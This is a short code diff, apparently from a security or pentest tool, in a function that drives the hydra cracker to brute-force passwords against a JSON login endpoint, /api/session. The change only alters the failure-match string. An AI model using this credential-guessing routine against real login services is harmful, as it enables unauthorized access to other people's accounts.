@@ -64,7 +64,7 @@ async function guessPassword(
   writeFileSync(found, '')
   const { hostname, port } = new URL(through)
   const body = JSON.stringify({ email: '^USER^', password: '^PASS^', remember: false })
-  const form = ['/api/session', body, 'g=', 'H=Content-Type: application/json', 'F=refusal']
+  const form = ['/api/session', body, 'g=', 'H=Content-Type: application/json', 'F=problem']
   const module = form.map((part) => part.replaceAll(':', String.raw`\:`)).join(':')
   const args = ['-I', '-t', '4', '-l', email, '-P', list, '-o', found, '-s', port, hostname, 'http-post-form', module]
   const { code, output } = await runProgram('hydra', args, { cwd: folder, limitS: 120 })
